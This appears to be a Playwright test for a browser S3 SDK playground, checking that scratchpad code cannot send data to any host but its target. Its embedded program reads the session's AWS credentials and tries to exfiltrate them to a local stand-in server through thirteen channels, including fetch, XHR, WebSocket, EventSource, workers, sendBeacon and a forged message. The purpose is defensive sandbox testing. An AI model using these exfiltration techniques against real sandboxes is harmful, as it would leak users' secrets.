/**
 * User code in the SDK scratchpad cannot reach a host other than the chosen target (issue 15, item 2), in
 * Chromium on the static build. A loopback "outside" server (its own port, not the target) records every
 * request and WebSocket upgrade. The program tries every way out, carrying the credentials it was given:
 * fetch (the SDK's forwarded one and, in a nested worker, the native one), XHR (async and sync), WebSocket,
 * EventSource, importScripts, dynamic import(), navigator.sendBeacon, image loads (fetch no-cors,
 * createImageBitmap), nested workers (by URL and from a blob), and posting a forged request message. The
 * server must receive nothing, while the program's own SDK calls to the in-page emulator still work.
 */
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { waitForPlayground } from './terminal'
import { panels, shot } from './panels'

const editorIn = (page: Page) => page.getByTestId('scratchpad').locator('.monaco-editor').first()

/** The program: each attempt is recorded as how it ended; the credentials ride along in every URL. */
const program = (outside: string) => `
const { ListBucketsCommand, CreateBucketCommand, PutObjectCommand } = require('@aws-sdk/client-s3')
const creds = await s3.config.credentials()
const secret = encodeURIComponent(creds.accessKeyId + ':' + creds.secretAccessKey + ':' + (creds.sessionToken || ''))
const OUT = '${outside}'
const tries = {}
const attempt = async (name, f) => {
  try {
    tries[name] = 'no error: ' + String(await Promise.race([f(), new Promise((r) => setTimeout(() => r('pending'), 1500))]))
  } catch (e) {
    tries[name] = 'failed: ' + String((e && e.message) || e).slice(0, 60)
  }
}
const event = (target, ok, bad) =>
  new Promise((resolve, reject) => { target[ok] = () => resolve(ok); target[bad] = () => reject(new Error(bad)) })
await attempt('fetch (forwarded)', () => fetch(OUT + '/fetch?' + secret).then((r) => r.status))
await attempt('fetch no-cors image', () => fetch(OUT + '/img.png?' + secret, { mode: 'no-cors' }).then((r) => r.type))
await attempt('createImageBitmap', async () => createImageBitmap(await fetch(OUT + '/bitmap.png?' + secret).then((r) => r.blob())))
await attempt('xhr async', () => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/xhr?' + secret); const p = event(x, 'onload', 'onerror'); x.send(); return p })
await attempt('xhr sync', () => { const x = new XMLHttpRequest(); x.open('POST', OUT + '/xhr-sync', false); x.send(secret); return x.status })
await attempt('websocket', () => event(new WebSocket(OUT.replace('http', 'ws') + '/ws?' + secret), 'onopen', 'onerror'))
await attempt('eventsource', () => event(new EventSource(OUT + '/es?' + secret), 'onopen', 'onerror'))
await attempt('importScripts', () => importScripts(OUT + '/import.js?' + secret))
// Through new Function: the TypeScript emit (CommonJS) would turn a literal import() into require().
const dynamicImport = new Function('u', 'return import(u)')
await attempt('dynamic import', () => dynamicImport(OUT + '/module.js?' + secret))
await attempt('sendBeacon', () => (navigator.sendBeacon ? navigator.sendBeacon(OUT + '/beacon', secret) : 'not in a worker'))
await attempt('worker by URL', () => event(new Worker(OUT + '/worker.js?' + secret), 'onmessage', 'onerror'))
const nested = \`
  const OUT = '\${OUT}', secret = '\${secret}'
  const results = {}
  const tryIt = async (name, f) => { try { results[name] = 'no error: ' + String(await f()) } catch (e) { results[name] = 'failed: ' + String(e.message || e).slice(0, 60) } }
  ;(async () => {
    await tryIt('native fetch', () => fetch(OUT + '/nested-fetch?' + secret).then((r) => r.status))
    await tryIt('xhr sync', () => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/nested-xhr?' + secret, false); x.send(); return x.status })
    await tryIt('importScripts', () => importScripts(OUT + '/nested-import.js?' + secret))
    await tryIt('websocket', () => new WebSocket(OUT.replace('http', 'ws') + '/nested-ws').readyState)
    await tryIt('dynamic import', () => import(OUT + '/nested-module.js?' + secret))
    postMessage(results)
  })()\`
await attempt('nested blob worker', () => {
  const w = new Worker(URL.createObjectURL(new Blob([nested], { type: 'text/javascript' })))
  return new Promise((resolve, reject) => { w.onmessage = (e) => resolve(JSON.stringify(e.data)); w.onerror = (e) => reject(new Error('error: ' + e.message)) })
})
await attempt('forged request message', () => { postMessage({ type: 'fetch', request: { id: 424242, url: OUT + '/forged?' + secret, method: 'GET', headers: [] } }); return 'posted' })
console.log('ATTEMPTS ' + JSON.stringify(tries))
await s3.send(new CreateBucketCommand({ Bucket: 'sandbox-legit' }))
await s3.send(new PutObjectCommand({ Bucket: 'sandbox-legit', Key: 'k', Body: 'fine' }))
const listed = await s3.send(new ListBucketsCommand({}))
console.log('LEGIT ' + listed.Buckets.map((b) => b.Name).join(','))
`

test('scratchpad code reaches the chosen target only: every way out to another host is shut', async ({
  page,
}, testInfo) => {
  test.setTimeout(120_000)
  const received: string[] = []
  const note = (kind: string) => (req: IncomingMessage) => received.push(`${kind} ${req.method} ${req.url}`)
  const outside = createServer((req, res) => {
    note('request')(req)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('postMessage(1)')
  })
  outside.on('upgrade', (req, socket) => {
    note('upgrade')(req)
    socket.destroy()
  })
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  try {
    await page.goto('/playground/')
    await waitForPlayground(page)
    await panels(page).getByRole('tab', { name: 'SDK scratchpad' }).click()
    await expect(editorIn(page)).toContainText('PutObjectCommand')
    await page.getByLabel('Language').selectOption('javascript')
    await page.getByLabel('Timeout (s)').fill('60')
    await editorIn(page).click()
    await page.keyboard.press('ControlOrMeta+A')
    await page.keyboard.press('Delete')
    await page.keyboard.insertText(program(url))
    await page.getByRole('button', { name: '▶ Run' }).click()
    const consolePane = page.getByTestId('scratchpad-console')
    await expect(consolePane).toContainText('Finished in', { timeout: 60_000 })
    await expect(consolePane).toContainText('LEGIT sandbox-legit')
    const text = (await consolePane.textContent()) ?? ''
    const attempts = JSON.parse(/ATTEMPTS (\{.*?\})(?=LEGIT|Finished|$)/s.exec(text)?.[1] ?? '{}') as Record<
      string,
      string
    >
    console.log('[sandbox] attempts', JSON.stringify(attempts, null, 1))
    testInfo.annotations.push({ type: 'attempts', description: JSON.stringify(attempts) })
    // Every way was tried (the program ran them all).
    expect(Object.keys(attempts)).toHaveLength(13)
    // The SDK's own requests reached the in-page emulator, and the inspector shows them.
    const inspector = page.getByRole('region', { name: 'Request inspector' })
    await expect(inspector.getByTestId('exchange').filter({ hasText: 'PutObject' }).first()).toBeVisible()
    // Time for anything still on its way to arrive.
    await page.waitForTimeout(1500)
    await shot(page, testInfo, 'sandbox-attempts')
    expect(received, 'requests that reached the outside server').toEqual([])
  } finally {
    await new Promise((resolve) => outside.close(resolve))
  }
})
